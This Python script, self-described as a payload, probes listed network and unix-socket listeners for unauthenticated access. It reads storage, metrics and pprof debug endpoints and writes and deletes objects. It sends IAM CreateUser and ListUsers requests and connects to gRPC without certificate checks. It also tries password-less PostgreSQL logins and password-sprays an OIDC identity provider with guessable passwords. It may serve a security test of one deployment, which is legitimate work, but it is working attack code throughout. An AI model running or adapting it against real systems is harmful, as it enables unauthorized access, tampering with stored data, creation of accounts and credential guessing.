"""A payload: asks every listener that it is told of for data, writes and orders without credentials; tells what it got.

`python3 try_listeners.py [FILE]` reads JSON from the file or its input and prints a JSON list of what was answered.
"""

import json
import re
import socket
import ssl
import struct
import sys
from contextlib import suppress
from functools import partial
from http.client import HTTPConnection, HTTPException, HTTPSConnection
from pathlib import Path
from urllib.parse import urlencode, urlsplit

TIMEOUT_S = 5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
FOREIGN = b"written by a payload"
HTTP_PATHS = (
    *("/", "/status", "/metrics", "/stats/health", "/stats/counter", "/stats/memory", "/stats/disk", "/ui/index.html"),
    *("/dir/status", "/dir/assign", "/dir/lookup?volumeId=1", "/vol/status", "/vol/grow?count=1", "/vol/vacuum"),
    *("/cluster/status", "/cluster/healthz", "/raft/stats", "/debug/pprof/", "/debug/pprof/heap?debug=1"),
    *("/buckets/?limit=100", "/etc/?limit=100", "/topics/", "/1,0", "/2,0", "/3,0", "/col/delete?collection=none"),
)
ORDERS = ("Action=ListUsers&Version=2010-05-08", "Action=CreateUser&UserName=payload&Version=2010-05-08")


def main(targets: dict) -> list:
    """Try everything; returns what was answered as if we were somebody."""
    answers = []
    for host, port in targets["tcp"]:
        place = f"{host}:{port}"
        plain = partial(HTTPConnection, host, port, timeout=TIMEOUT_S)
        encrypted = partial(HTTPSConnection, host, port, timeout=TIMEOUT_S, context=trusting())
        answers += [f"http://{place} {answer}" for answer in web(plain, targets)]
        answers += [f"https://{place} {answer}" for answer in web(encrypted, targets)]
        connect = partial(socket.create_connection, (host, port), TIMEOUT_S)
        answers += [f"{place} {answer}" for answer in protocols(connect)]
    for path in targets["unix"]:
        answers += [f"{path} {answer}" for answer in web(partial(UnixConnection, path), targets)]
        answers += [f"{path} {answer}" for answer in protocols(partial(unix_socket, path))]
    return answers + log_in(targets)


def trusting() -> ssl.SSLContext:
    """We have no certificate, and take any."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def unix_socket(path: str) -> socket.socket:
    """Connect to a socket by its path, or by its abstract name after an @."""
    connected = socket.socket(socket.AF_UNIX)
    connected.settimeout(TIMEOUT_S)
    connected.connect("\0" + path[1:] if path.startswith("@") else path)
    return connected


class UnixConnection(HTTPConnection):
    """HTTP over a unix socket."""

    def __init__(self, path: str) -> None:
        super().__init__("localhost", timeout=TIMEOUT_S)
        self.path = path

    def connect(self) -> None:
        """Open the connection."""
        self.sock = unix_socket(self.path)


def web(connect, targets: dict) -> list:
    """Read, write and order over HTTP; returns the successes that say or do something."""
    stored = [f"/{targets['object']}", f"/buckets/{targets['object']}"]
    requests = [("GET", path, None) for path in (*HTTP_PATHS, *stored, *(f"{path}?metadata=true" for path in stored))]
    requests += [
        (method, path, FOREIGN) for method in ("PUT", "POST") for path in (*stored, "/submit", "/1,01637037d6")
    ]
    requests += [("POST", "/", order.encode()) for order in ORDERS]
    requests += [("PUT", "/payloads-bucket", b""), ("POST", "/vol/grow?count=1", b""), ("DELETE", stored[1], None)]
    answers = []
    for method, path, body in requests:
        connection = connect()
        try:
            connection.request(method, path, body=body)
            answer = connection.getresponse()
            content = answer.read(4096)
        except (OSError, HTTPException):
            if not reachable(connect):
                break
            continue
        finally:
            connection.close()
        if path == "/" and answer.status == 400:
            break  # it speaks something else
        if answer.status < 400 and (content or method != "GET"):
            answers.append(f"{method} {path}: {answer.status} {answer.headers.get('content-type')} {content[:80]!r}")
    return answers


def reachable(connect) -> bool:
    """Whether there is any use in further requests."""
    connection = connect()
    try:
        connection.request("GET", "/")
        connection.getresponse()
    except (OSError, HTTPException):
        return False
    finally:
        connection.close()
    return True


def protocols(connect) -> list:
    """Begin gRPC, plain and encrypted, and PostgreSQL's own protocol; returns who went on with us."""
    answers = []
    with suppress(OSError), connect() as plain:
        plain.sendall(PREFACE)
        if is_http2(plain.recv(64)):
            answers.append("gRPC in plain text")
    with suppress(OSError):
        context = trusting()
        context.set_alpn_protocols(["h2"])
        with context.wrap_socket(connect()) as encrypted:
            encrypted.sendall(PREFACE)
            if is_http2(encrypted.recv(64)):
                answers.append("gRPC without a certificate")
    for user in (b"weyl", b"postgres"):
        with suppress(OSError, struct.error), connect() as database:
            startup = struct.pack("!I", 196608) + b"user\0" + user + b"\0database\0weyl\0\0"
            database.sendall(struct.pack("!I", len(startup) + 4) + startup)
            kind, _, code = struct.unpack("!cII", database.recv(9))
            if (kind, code) == (b"R", 0):
                answers.append(f"PostgreSQL as {user.decode()}")
    return answers


def is_http2(content: bytes) -> bool:
    """Whether this is a frame of settings, with which a server of HTTP/2 begins."""
    return len(content) >= 9 and content[3] == 4


def log_in(targets: dict) -> list:
    """Log in at the identity provider as everybody; returns as whom that worked."""
    provider = urlsplit(targets["idp"])
    query = {
        "response_type": "code",
        "client_id": "weyl",
        "redirect_uri": f"{targets['server']}/api/auth/device/complete",
        "scope": "openid profile",
        "state": "x",
        "code_challenge": "x" * 43,
        "code_challenge_method": "S256",
    }
    answers = []
    for user in targets["users"]:
        for password in (user, "", "weyl", "password", user.capitalize()):
            connection = HTTPConnection(provider.hostname, provider.port, timeout=TIMEOUT_S)
            connection.request("GET", f"/authorize?{urlencode(query)}")
            form = re.search(r'action="(/login/[^"]+)"', connection.getresponse().read().decode())
            assert form is not None, "the provider shows no form"
            fields = urlencode({"login": user, "password": password})
            headers = {"Content-Type": "application/x-www-form-urlencoded"}
            connection.request("POST", form[1], body=fields, headers=headers)
            status = connection.getresponse().status
            connection.close()
            if status < 400:
                answers.append(f"the identity provider: logged in as {user} by {password!r}")
    return answers


if __name__ == "__main__":
    told = Path(sys.argv[1]).read_text() if len(sys.argv) > 1 else sys.stdin.read()
    print(json.dumps(main(json.loads(told)), indent=0))
